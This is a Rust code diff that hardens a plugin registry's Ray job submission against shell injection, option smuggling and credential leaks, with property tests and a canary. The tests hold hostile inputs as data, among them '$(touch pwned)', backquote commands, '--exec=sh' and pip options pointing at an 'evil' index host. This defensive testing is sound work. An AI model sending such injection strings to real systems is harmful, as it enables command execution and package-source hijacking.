@@ -13,11 +13,21 @@
 //! Running an action submits a Ray job whose entrypoint is the template with
 //! `{action}` and `{params}` replaced by the action's name and its parameters as
 //! JSON, each as one single-quoted shell word (Ray runs the entrypoint through a
-//! shell; quoting makes any parameter text inert). `{{` and `}}` are literal
-//! braces. The job also gets the environment variables `AGENT_ACTION`,
-//! `AGENT_PARAMS` (JSON), `AGENT_PLUGIN` (`code@version`) and, when asked,
-//! `AGENT_LANGUAGE`, for plugins that would rather read those.
+//! shell; quoting makes any parameter text inert). A placeholder must therefore
+//! stand as a bare word: one inside the template's own quotes (`'{params}'`,
+//! `sh -c "echo {params}"`), after a backslash or `$`, or after `$(`, `${`, a
+//! backquote or `<<` is refused when the registry loads ([`crate::shell`]).
+//! `{{` and `}}` are literal braces. The job also gets the environment variables
+//! `AGENT_ACTION`, `AGENT_PARAMS` (JSON), `AGENT_PLUGIN` (`code@version`) and, when
+//! asked, `AGENT_LANGUAGE`, for plugins that would rather read those.
+//!
+//! Every field a caller sends is bounded ([`MAX_PARAMS_BYTES`], the action's and
+//! language's lengths, [`crate::requirement`]); `requirements` are plain PEP 508
+//! specifiers only (no URL, option or path reaches pip). Answers showing a release
+//! hide its `env_vars` values and any credential in its URLs and pip options
+//! ([`crate::redact`]).
 
+use crate::shell::WordContext;
 use agent_proto::{ClientError, JobId, PluginLookup};
 use serde::Deserialize;
 use serde_json::{json, Map, Value};
@@ -26,6 +36,18 @@ use std::path::Path;
 /// The largest `params` a run accepts, as JSON (a command-line word and an
 /// environment variable are each limited to 128 KiB on Linux).
 pub const MAX_PARAMS_BYTES: usize = 64 * 1024;
+
+/// The longest entrypoint template accepted, in bytes.
+pub const MAX_ENTRYPOINT_BYTES: usize = 8 * 1024;
+
+/// The largest `runtime_env` a release created through the API may carry, as JSON.
+pub const MAX_RUNTIME_ENV_BYTES: usize = 64 * 1024;
+
+/// The longest `language` a run accepts (a BCP 47 tag is at most 35 characters).
+pub const MAX_LANGUAGE_LEN: usize = 35;
+
+/// The longest `name` or `description` of a release created through the API.
+pub const MAX_TEXT_FIELD_BYTES: usize = 1024;
 
 /// One piece of an entrypoint template.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -55,8 +77,15 @@ pub struct EntrypointTemplate {
 }
 
 impl EntrypointTemplate {
-    /// Parses a template; an unknown `{name}` or an unmatched brace is an error.
+    /// Parses a template; an unknown `{name}`, an unmatched brace, or a placeholder
+    /// that is not a bare shell word ([`crate::shell`]) is an error naming it.
     pub fn parse(source: &str) -> Result<Self, String> {
+        if source.len() > MAX_ENTRYPOINT_BYTES {
+            return Err(format!(
+                "the entrypoint is {} bytes; at most {MAX_ENTRYPOINT_BYTES} are accepted",
+                source.len()
+            ));
+        }
         let mut pieces = Vec::new();
         let mut text = String::new();
         let mut chars = source.chars().peekable();
@@ -106,6 +135,23 @@ impl EntrypointTemplate {
         }
         if source.trim().is_empty() {
             return Err("the entrypoint is empty".into());
+        }
+        let mut context = WordContext::new();
+        for piece in &pieces {
+            match piece {
+                Piece::Text(t) => context.text(t),
+                Piece::Action | Piece::Params => {
+                    let name = if *piece == Piece::Action {
+                        "action"
+                    } else {
+                        "params"
+                    };
+                    context.check().map_err(|why| {
+                        format!("the placeholder {{{name}}} in the entrypoint {source:?} is refused: {why}")
+                    })?;
+                    context.placeholder();
+                }
+            }
         }
         Ok(EntrypointTemplate {
             source: source.to_owned(),
@@ -183,16 +229,16 @@ impl PluginRelease {
         l == self.id || l == self.lookup()
     }
 
-    /// The release as the agent protocol shows it (the values of the runtime_env's
-    /// `env_vars` are not shown: they may hold credentials).
+    /// The release as the agent protocol shows it, credentials hidden
+    /// ([`crate::redact`]): the values of the runtime_env's `env_vars`, the
+    /// userinfo of every URL and the values of pip's index and proxy options.
     pub fn to_json(&self) -> Value {
-        let mut runtime_env = self.runtime_env.clone();
-        if let Some(Value::Object(vars)) = runtime_env.get_mut("env_vars") {
-            for v in vars.values_mut() {
-                *v = json!("[hidden]");
-            }
-        }
+        let mut runtime_env = Value::Object(self.runtime_env.clone());
+        crate::redact::runtime_env(&mut runtime_env);
         let mut out = self.extra.clone();
+        for v in out.values_mut() {
+            crate::redact::value(v);
+        }
         let id = match self.id.parse::<u64>() {
             Ok(n) => json!(n),
             Err(_) => json!(self.id),
@@ -202,8 +248,11 @@ impl PluginRelease {
         out.insert("code".into(), json!(self.code));
         out.insert("version".into(), json!(self.version));
         out.insert("lookup".into(), json!(self.lookup()));
-        out.insert("entrypoint".into(), json!(self.entrypoint.as_str()));
-        out.insert("runtime_env".into(), Value::Object(runtime_env));
+        out.insert(
+            "entrypoint".into(),
+            json!(crate::redact::text(self.entrypoint.as_str())),
+        );
+        out.insert("runtime_env".into(), runtime_env);
         Value::Object(out)
     }
 }
@@ -388,10 +437,30 @@ impl PluginRegistry {
             Some(Value::Object(m)) => m.clone(),
             Some(_) => return Err(validation("runtime_env", "must be an object", "type_error")),
         };
+        let env_len = Value::Object(runtime_env.clone()).to_string().len();
+        if env_len > MAX_RUNTIME_ENV_BYTES {
+            return Err(validation(
+                "runtime_env",
+                &format!(
+                    "runtime_env is {env_len} bytes as JSON; at most {MAX_RUNTIME_ENV_BYTES} are accepted"
+                ),
+                "value_error",
+            ));
+        }
         let mut extra = Map::new();
         for key in ["name", "description"] {
-            if let Some(v) = body.get(key) {
-                extra.insert(key.into(), v.clone());
+            match body.get(key) {
+                None | Some(Value::Null) => {}
+                Some(Value::String(v)) if v.len() <= MAX_TEXT_FIELD_BYTES => {
+                    extra.insert(key.into(), json!(v));
+                }
+                Some(_) => {
+                    return Err(validation(
+                        key,
+                        &format!("must be a string of at most {MAX_TEXT_FIELD_BYTES} bytes"),
+                        "value_error",
+                    ))
+                }
             }
         }
         let release = PluginRelease {
@@ -431,10 +500,12 @@ fn validation(field: &str, msg: &str, kind: &str) -> ClientError {
     }
 }
 
-/// Checks an action name: 1 to 100 characters of `[A-Za-z0-9_.:-]`.
+/// Checks an action name: 1 to 100 characters of `[A-Za-z0-9_.:-]`, not starting
+/// with `-` (the plugin's program would read it as an option).
 fn check_action(action: &str) -> Result<(), ClientError> {
     let ok = !action.is_empty()
         && action.len() <= 100
+        && !action.starts_with('-')
         && action
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ':'));
@@ -443,10 +514,65 @@ fn check_action(action: &str) -> Result<(), ClientError> {
     } else {
         Err(validation(
             "action",
-            "an action is 1 to 100 characters of A-Z, a-z, 0-9, '_', '-', '.', ':'",
+            "an action is 1 to 100 characters of A-Z, a-z, 0-9, '_', '-', '.', ':', not starting with '-'",
             "value_error",
         ))
     }
+}
+
+/// The run's `language`: 1 to [`MAX_LANGUAGE_LEN`] characters of `A-Z a-z 0-9 - _`
+/// (a language tag such as `ko` or `pt-BR`).
+fn language(body: &Value) -> Result<Option<&str>, ClientError> {
+    match body.get("language") {
+        None | Some(Value::Null) => Ok(None),
+        Some(Value::String(lang))
+            if !lang.is_empty()
+                && lang.len() <= MAX_LANGUAGE_LEN
+                && lang
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') =>
+        {
+            Ok(Some(lang))
+        }
+        Some(_) => Err(validation(
+            "language",
+            &format!(
+                "a language is a tag of 1 to {MAX_LANGUAGE_LEN} characters of A-Z, a-z, 0-9, '-', '_'"
+            ),
+            "value_error",
+        )),
+    }
+}
+
+/// Every requirement a plain PEP 508 specifier ([`crate::requirement`]), at most
+/// [`MAX_REQUIREMENTS`](crate::requirement::MAX_REQUIREMENTS) of them.
+fn check_requirements(reqs: &[Value]) -> Result<(), ClientError> {
+    use crate::requirement::MAX_REQUIREMENTS;
+    if reqs.len() > MAX_REQUIREMENTS {
+        return Err(validation(
+            "requirements",
+            &format!(
+                "{} requirements; at most {MAX_REQUIREMENTS} are accepted",
+                reqs.len()
+            ),
+            "value_error",
+        ));
+    }
+    for (index, req) in reqs.iter().enumerate() {
+        let text = req.as_str().unwrap_or_default();
+        crate::requirement::check(text).map_err(|why| {
+            // The refused text is not echoed: it may be a URL with a credential.
+            validation(
+                "requirements",
+                &format!(
+                    "requirement {index} is not a plain package specifier \
+                     (name, extras, versions, markers): {why}"
+                ),
+                "value_error",
+            )
+        })?;
+    }
+    Ok(())
 }
 
 /// Builds Ray's job submission body for running `body` (`{"action", "params"?,
@@ -479,6 +605,13 @@ pub fn submission(release: &PluginRelease, body: &Value) -> Result<Value, Client
         Some(p) => p.clone(),
     };
     let params_json = params.to_string();
+    if params_json.starts_with('-') {
+        return Err(validation(
+            "params",
+            "params that are a negative number would read as an option; send an object",
+            "value_error",
+        ));
+    }
     if params_json.len() > MAX_PARAMS_BYTES {
         return Err(validation(
             "params",
@@ -497,13 +630,14 @@ pub fn submission(release: &PluginRelease, body: &Value) -> Result<Value, Client
     env_vars.insert("AGENT_ACTION".into(), json!(action));
     env_vars.insert("AGENT_PARAMS".into(), json!(params_json));
     env_vars.insert("AGENT_PLUGIN".into(), json!(release.lookup()));
-    if let Some(lang) = body.get("language").and_then(Value::as_str) {
+    if let Some(lang) = language(body)? {
         env_vars.insert("AGENT_LANGUAGE".into(), json!(lang));
     }
     runtime_env.insert("env_vars".into(), Value::Object(env_vars));
     match body.get("requirements") {
         None | Some(Value::Null) => {}
         Some(Value::Array(reqs)) if reqs.iter().all(Value::is_string) => {
+            check_requirements(reqs)?;
             if !reqs.is_empty() {
                 let mut pip: Vec<Value> = match runtime_env.remove("pip") {
                     Some(Value::Array(p)) => p,
@@ -679,5 +813,257 @@ entrypoint = "echo {{not a placeholder}} {action}"
         );
         r.delete(&lookup("new@0.1")).unwrap();
         assert_eq!(r.delete(&lookup("new@0.1")).unwrap_err().status_code(), 404);
+    }
+
+    #[test]
+    fn placeholders_inside_quotes_are_refused_naming_the_release_and_placeholder() {
+        for (entrypoint, placeholder, why) in [
+            (
+                r#"python x.py --params '{params}'"#,
+                "{params}",
+                "single quotes",
+            ),
+            (r#"sh -c "echo {params}""#, "{params}", "double quotes"),
+            (r#"run "{action}" {params}"#, "{action}", "double quotes"),
+            (r#"echo \{params}"#, "{params}", "backslash"),
+            (r#"echo ${params}"#, "{params}", "`$`"),
+            (r#"echo `echo {params}`"#, "{params}", "backquote"),
+            (r#"echo $(echo {params})"#, "{params}", "`$(`"),
+            ("echo # {params}", "{params}", "comment"),
+            ("cat <<E\nit's\nE\n'{params}'", "{params}", "here-document"),
+        ] {
+            let file = format!(
+                "[[releases]]\ncode = 'evil'\nversion = '6.6'\nentrypoint = {}\n",
+                serde_json::to_string(entrypoint).unwrap()
+            );
+            let e = PluginRegistry::from_toml(&file).unwrap_err();
+            assert!(
+                e.contains("release evil@6.6") && e.contains(placeholder) && e.contains(why),
+                "{entrypoint:?}: {e}"
+            );
+        }
+        // Through the API too, as a 422.
+        let mut r = PluginRegistry::new();
+        let e = r
+            .create(&json!({"plugin": "p", "version": "1", "entrypoint": "sh -c 'x {params}'"}))
+            .unwrap_err();
+        assert_eq!(e.status_code(), 422);
+        let e = r
+            .create(&json!({"plugin": "p", "version": "1", "entrypoint": "x".repeat(MAX_ENTRYPOINT_BYTES + 1)}))
+            .unwrap_err();
+        assert_eq!(e.status_code(), 422);
+    }
+
+    #[test]
+    fn hostile_run_fields_are_refused() {
+        let r = PluginRegistry::from_toml(FILE).unwrap();
+        let rel = r.get(&lookup("hello@1.0.0")).unwrap();
+        let long = "x".repeat(MAX_LANGUAGE_LEN + 1);
+        for bad in [
+            json!({"action": "$(touch x)"}),
+            json!({"action": "`id`"}),
+            json!({"action": "a'b"}),
+            json!({"action": "a\nb"}),
+            json!({"action": "a\u{0}b"}),
+            json!({"action": "--exec=sh"}),
+            json!({"action": "x".repeat(101)}),
+            json!({"action": "go", "params": -1}),
+            json!({"action": "go", "language": long}),
+            json!({"action": "go", "language": "ko\n--index-url"}),
+            json!({"action": "go", "language": "ko\u{0}"}),
+            json!({"action": "go", "language": "$(id)"}),
+            json!({"action": "go", "language": 7}),
+            json!({"action": "go", "requirements": ["--index-url http://evil/simple"]}),
+            json!({"action": "go", "requirements": ["-e", "/etc"]}),
+            json!({"action": "go", "requirements": ["git+https://u:tok@evil/x"]}),
+            json!({"action": "go", "requirements": ["x @ https://u:tok@evil/x.whl"]}),
+            json!({"action": "go", "requirements": ["numpy\n-i http://evil"]}),
+            json!({"action": "go", "requirements": ["numpy\u{0}"]}),
+            json!({"action": "go", "requirements": ["numpy $(touch x)"]}),
+            json!({"action": "go", "requirements": vec!["numpy"; 51]}),
+        ] {
+            let e = submission(rel, &bad).unwrap_err();
+            assert_eq!(e.status_code(), 422, "{bad}");
+            // A refusal never repeats a credential the caller sent.
+            assert!(!e.to_string().contains("tok@"), "{e}");
+        }
+        let ok = submission(
+            rel,
+            &json!({"action": "go", "language": "pt-BR",
+                    "requirements": ["numpy>=1.26", "requests[socks]; python_version >= '3.9'"]}),
+        )
+        .unwrap();
+        assert_eq!(
+            ok["runtime_env"]["pip"],
+            json!([
+                "rich",
+                "numpy>=1.26",
+                "requests[socks]; python_version >= '3.9'"
+            ])
+        );
+    }
+
+    #[test]
+    fn answers_hide_credentials_in_urls_and_pip_options() {
+        let file = r#"
+[[releases]]
+code = "private"
+version = "1"
+entrypoint = "python main.py {action} {params} --from https://deploy:pw1@git.example/x"
+runtime_env = { working_dir = "https://user:pass@store.example/app.zip", pip = ["--index-url https://u:tok@pypi.example/simple", "--extra-index-url=https://pypi2.example/t0ken/simple", "-i", "https://k:v@p3/simple", "numpy"], env_vars = { TOKEN = "s3cr3t" } }
+"#;
+        let r = PluginRegistry::from_toml(file).unwrap();
+        let shown = r.releases()[0].to_json().to_string();
+        for secret in ["user:pass", "u:tok", "t0ken", "k:v", "s3cr3t", "deploy:pw1"] {
+            assert!(!shown.contains(secret), "{secret} shown in {shown}");
+        }
+        assert!(
+            shown.contains("store.example/app.zip") && shown.contains("numpy"),
+            "{shown}"
+        );
+        // The job Ray runs still gets them.
+        let sub = submission(&r.releases()[0], &json!({"action": "go"})).unwrap();
+        assert!(sub.to_string().contains("u:tok@pypi.example"));
+    }
+
+    /// Runs `command` with `sh -c` in a fresh directory; returns its output and
+    /// whether a file named `pwned` appeared there.
+    fn run_sh(command: &str) -> (Vec<u8>, bool) {
+        use std::sync::atomic::{AtomicU64, Ordering};
+        static N: AtomicU64 = AtomicU64::new(0);
+        let dir = std::env::temp_dir().join(format!(
+            "agent-gateway-sh-{}-{}",
+            std::process::id(),
+            N.fetch_add(1, Ordering::Relaxed)
+        ));
+        std::fs::create_dir_all(&dir).unwrap();
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(command)
+            .current_dir(&dir)
+            .stdin(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .output()
+            .unwrap();
+        let pwned = dir.join("pwned").exists();
+        std::fs::remove_dir_all(&dir).unwrap();
+        (out.stdout, pwned)
+    }
+
+    #[test]
+    fn the_canary_fires_when_quoting_is_broken() {
+        // The oracle of the property below: the template shape the registry
+        // refuses does run the caller's text.
+        let params = json!({"x": "$(touch pwned)"}).to_string();
+        let (_, pwned) = run_sh(&format!("echo '{}'", shell_quote(&params)));
+        assert!(pwned);
+    }
+
+    mod generated {
+        use super::*;
+        use proptest::prelude::*;
+
+        fn hostile_text() -> impl Strategy<Value = String> {
+            let pieces = prop::sample::select(vec![
+                "'",
+                "\"",
+                "\\",
+                "$",
+                "`",
+                "$(touch pwned)",
+                "`touch pwned`",
+                "; touch pwned;",
+                "'; touch pwned #",
+                "\n",
+                " ",
+                "{",
+                "}",
+                "é",
+                "\u{0}",
+                "--index-url=x",
+                "$'\\x27'",
+            ]);
+            prop::collection::vec(pieces, 0..12).prop_map(|v| v.concat())
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
+
+            /// Whatever the caller sends, `sh` hands the program exactly the action
+            /// and the params' JSON, byte for byte.
+            #[test]
+            fn rendering_never_lets_caller_text_out_of_its_word(
+                action in "[A-Za-z0-9_.:][A-Za-z0-9_.:-]{0,20}",
+                text in prop_oneof![hostile_text(), any::<String>()],
+            ) {
+                let t = EntrypointTemplate::parse(r"printf '%s\0' {action} {params}").unwrap();
+                let params = json!({"text": text});
+                let (out, pwned) = run_sh(&t.render(&action, &params));
+                prop_assert!(!pwned);
+                let expected = format!("{action}\0{params}\0");
+                prop_assert_eq!(out, expected.into_bytes());
+            }
+
+            /// Any template the registry accepts, rendered with hostile params, never
+            /// runs the caller's text. Templates are made of balanced filler and of
+            /// placeholders wrapped in every shell context (so that a wrongly
+            /// accepted one is valid shell that runs the caller's `$(touch pwned)`).
+            #[test]
+            fn accepted_templates_never_run_caller_text(
+                segments in prop::collection::vec(
+                    (
+                        prop::sample::select(vec![
+                            ("", ""), ("'", "'"), ("\"", "\""), ("\\", "'"), ("$", ""),
+                            ("`echo ", "`"), ("$(echo ", ")"), ("${{x:-", "}}"),
+                            ("# ", "\n"), ("\"$(echo ", ")\""), ("$'", "'"),
+                            ("cat <<E\n", "\nE\n"), ("(", ")"), ("x=", " "),
+                            ("\"${{x:-", "}}\""), ("'\"'", ""), ("\"'\"", ""),
+                            ("#'\n'", "'"), ("echo \\\"", "\\\""),
+                        ]),
+                        prop::sample::select(vec!["{params}", "{params}", "{action}", "a", "'a'"]),
+                    ),
+                    1..4,
+                ),
+                text in prop::sample::select(vec![
+                    "$(touch pwned)", "; touch pwned; ", "`touch pwned`", "'; touch pwned; '",
+                    "\"; touch pwned; \"", "\n touch pwned \n", "; touch pwned #",
+                ]),
+                shape in 0..3u8,
+            ) {
+                // A JSON string, an object or an array: each breaks out of a
+                // wrongly accepted context differently.
+                let params = match shape {
+                    0 => json!(text),
+                    1 => json!({"x": text}),
+                    _ => json!([text, 1]),
+                };
+                let mut template = String::from("true ");
+                for ((open, close), middle) in &segments {
+                    template.push_str(open);
+                    template.push_str(middle);
+                    template.push_str(close);
+                    template.push(' ');
+                }
+                if let Ok(t) = EntrypointTemplate::parse(&template) {
+                    let (_, pwned) = run_sh(&t.render("go", &params));
+                    prop_assert!(!pwned, "{:?} ran the caller's text {}", template, params);
+                }
+            }
+
+            /// No URL userinfo survives an answer.
+            #[test]
+            fn userinfo_never_survives(
+                user in "[A-Za-z0-9._~-]{1,12}",
+                pass in "[A-Za-z0-9._~!$&'()*+,;=%-]{1,12}",
+                before in "[ a-z/=]{0,8}",
+                after in "[/a-z?=#]{0,8}",
+            ) {
+                let secret = format!("{user}:{pass}");
+                let raw = format!("{before}https://{secret}@host.example{after}");
+                let shown = crate::redact::text(&raw);
+                prop_assert!(!shown.contains(&secret), "{}", shown);
+                prop_assert!(shown.contains("host.example"));
+            }
+        }
     }
 }
